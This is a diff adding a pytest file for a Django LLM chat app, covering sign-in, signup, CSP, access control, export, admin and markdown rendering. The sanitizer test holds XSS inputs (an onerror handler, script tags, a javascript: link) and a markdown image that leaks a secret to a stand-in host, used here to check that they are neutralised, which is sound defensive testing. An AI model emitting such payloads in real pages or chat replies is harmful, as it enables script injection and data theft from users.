@@ -1,0 +1,204 @@
+"""Pages, export, sign-up, admin and the pieces the websocket relies on."""
+
+import pytest
+from django.contrib.auth import get_user_model
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+
+from conversations import generation, selectors, services, upstream
+from conversations.models import Conversation, Message, Persona
+from conversations.rendering import render_markdown
+from tests.conftest import API_KEY
+
+pytestmark = pytest.mark.django_db
+
+
+def make_conversation(owner, *, persona=None, turns=1) -> Conversation:
+    conversation = services.conversation_create(owner=owner, persona=persona, model="m", title="T")
+    parent = None
+    for i in range(turns):
+        parent = services.message_append(
+            conversation=conversation, role="user", content=f"q{i}", parent=parent
+        )
+        parent = services.message_append(
+            conversation=conversation, role="assistant", content=f"a{i}", parent=parent
+        )
+    return conversation
+
+
+def test_default_personas_exist():
+    personas = {p.name: p for p in Persona.objects.filter(owner=None)}
+    assert personas["Helpful assistant"].system_prompt == "You are a helpful assistant."
+    assert "type hints" in personas["Python expert"].system_prompt
+
+
+def test_chat_requires_sign_in(client):
+    response = client.get("/")
+    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")
+
+
+def test_first_signup_is_superuser_then_ordinary(client):
+    for name, superuser in (("first", True), ("second", False)):
+        client.logout()
+        response = client.post(
+            "/accounts/signup/",
+            {"username": name, "password1": "a-Strong-pass-42", "password2": "a-Strong-pass-42"},
+        )
+        assert response.status_code == 302
+        user = get_user_model().objects.get(username=name)
+        assert user.is_superuser is superuser and user.is_staff is superuser
+        assert client.get("/").status_code == 200  # Signed in straight away.
+
+
+def test_signup_errors_are_shown(client):
+    response = client.post(
+        "/accounts/signup/", {"username": "x", "password1": "a", "password2": "b"}
+    )
+    assert response.status_code == 200
+    assert b"form-error" in response.content
+    assert not get_user_model().objects.exists()
+
+
+def test_chat_page_and_csp(client, user, settings):
+    settings.LLM_API_KEY = API_KEY
+    conversation = make_conversation(user)
+    client.force_login(user)
+    response = client.get(f"/conversations/{conversation.pk}/")
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert "Helpful assistant" in html and 'id="boot"' in html
+    assert API_KEY not in html
+    csp = response["Content-Security-Policy"]
+    assert "script-src 'self'" in csp and "img-src 'self' data:" in csp
+
+
+def test_someone_elses_conversation_is_404_like_a_missing_one(client, user, other_user):
+    conversation = make_conversation(user)
+    client.force_login(other_user)
+    for url in (
+        f"/conversations/{conversation.pk}/",
+        f"/conversations/{conversation.pk}/export.json",
+    ):
+        assert client.get(url).status_code == 404
+        assert client.get(url.replace(str(conversation.pk), "99999")).status_code == 404
+
+
+def test_export_is_what_the_next_turn_would_send(client, user):
+    persona = Persona.objects.create(name="Pirate", system_prompt="Talk like a pirate.")
+    conversation = make_conversation(user, persona=persona, turns=2)
+    # A second version of the last reply: export follows the active branch only.
+    last = conversation.current_leaf
+    services.message_append(
+        conversation=conversation, role="assistant", content="a1 v2", parent=last.parent
+    )
+    client.force_login(user)
+    data = client.get(f"/conversations/{conversation.pk}/export.json").json()
+    assert data == {
+        "id": conversation.pk,
+        "title": "T",
+        "model": "m",
+        "persona": {"id": persona.pk, "name": "Pirate"},
+        "messages": [
+            {"role": "system", "content": "Talk like a pirate."},
+            {"role": "user", "content": "q0"},
+            {"role": "assistant", "content": "a0"},
+            {"role": "user", "content": "q1"},
+            {"role": "assistant", "content": "a1 v2"},
+        ],
+    }
+
+
+def test_reply_request_takes_the_same_queries_whatever_the_length(user):
+    counts = []
+    for turns in (1, 40):
+        conversation = make_conversation(user, turns=turns)
+        conversation = selectors.conversation_get(user=user, conversation_id=conversation.pk)
+        leaf = conversation.current_leaf
+        with CaptureQueriesContext(connection) as ctx:
+            request, reply = generation.prepare_reply(conversation=conversation, parent=leaf)
+        counts.append(len(ctx.captured_queries))
+        assert len(request.messages) == turns * 2
+        assert reply.status == "streaming"
+    assert counts[0] == counts[1] <= 6
+
+
+def test_streaming_replies_are_marked_interrupted_at_start(user):
+    conversation = make_conversation(user)
+    stuck = services.message_append(
+        conversation=conversation,
+        role="assistant",
+        content="half",
+        parent=conversation.current_leaf,
+        status=Message.Status.STREAMING,
+    )
+    generation.recover_interrupted()
+    stuck.refresh_from_db()
+    assert stuck.status == "interrupted" and stuck.content == "half"
+    assert Message.objects.filter(status="complete").count() == 2
+
+
+def test_models_json_lists_chat_models(client, user, fake_upstream):
+    fake_upstream.models = {
+        "object": "list",
+        "data": [
+            {"id": "meta-llama/Llama-3.3-70B-Instruct"},
+            {"id": "black-forest-labs/FLUX.1-dev"},
+            {"id": "stabilityai/stable-diffusion-xl"},
+            {"id": "Qwen/QwQ-32B"},
+        ],
+    }
+    client.force_login(user)
+    data = client.get("/models.json").json()
+    ids = [m["id"] for m in data["models"]]
+    assert ids == ["test-model", "meta-llama/Llama-3.3-70B-Instruct", "Qwen/QwQ-32B"]
+    assert data["default"] == "test-model"
+
+
+def test_models_json_falls_back_to_the_default(client, user, settings):
+    settings.LLM_BASE_URL = "http://127.0.0.1:9/v1"  # Nothing listens there.
+    settings.LLM_DEFAULT_MODEL = "fallback/model"
+    upstream.forget_models()
+    client.force_login(user)
+    assert client.get("/models.json").json()["models"] == [
+        {"id": "fallback/model", "name": "model"}
+    ]
+    client.logout()
+    assert client.get("/models.json").status_code == 401
+
+
+def test_markdown_is_sanitized():
+    html = render_markdown(
+        '<img src=x onerror="alert(1)"><script>alert(2)</script>\n\n'
+        "![leak](https://evil.example/p.png?d=secret)\n\n[x](javascript:alert(3))"
+    )
+    assert "<img" not in html and "<script" not in html
+    assert 'href="javascript' not in html
+    assert 'href="https://evil.example/p.png?d=secret"' in html  # a link, never fetched
+    assert "&lt;script&gt;" in html
+
+
+def test_code_is_highlighted():
+    html = render_markdown("```python\ndef f():\n    return 1\n```")
+    assert '<code class="language-python">' in html and '<span class="k">def</span>' in html
+
+
+def test_admin_shows_conversations_and_searches_message_text(client, user, django_user_model):
+    staff = django_user_model.objects.create_superuser(username="staff", password="pw")
+    conversation = make_conversation(user, turns=2)
+    client.force_login(staff)
+    listing = client.get("/admin/conversations/conversation/", {"q": "a1"})
+    assert (
+        listing.status_code == 200
+        and b"/admin/conversations/conversation/%d/" % conversation.pk in listing.content
+    )
+    page = client.get(f"/admin/conversations/conversation/{conversation.pk}/change/")
+    assert page.status_code == 200 and b"q1" in page.content
+    for filters in ({"messages__status": "error"}, {"owner__id__exact": user.pk}):
+        assert client.get("/admin/conversations/conversation/", filters).status_code == 200
+    assert client.get("/admin/conversations/persona/add/").status_code == 200
+
+
+def test_title_from_first_message():
+    assert services.title_from_text("  Hello\n world  ") == "Hello world"
+    long = services.title_from_text("word " * 30)
+    assert long.endswith("…") and len(long) <= 61
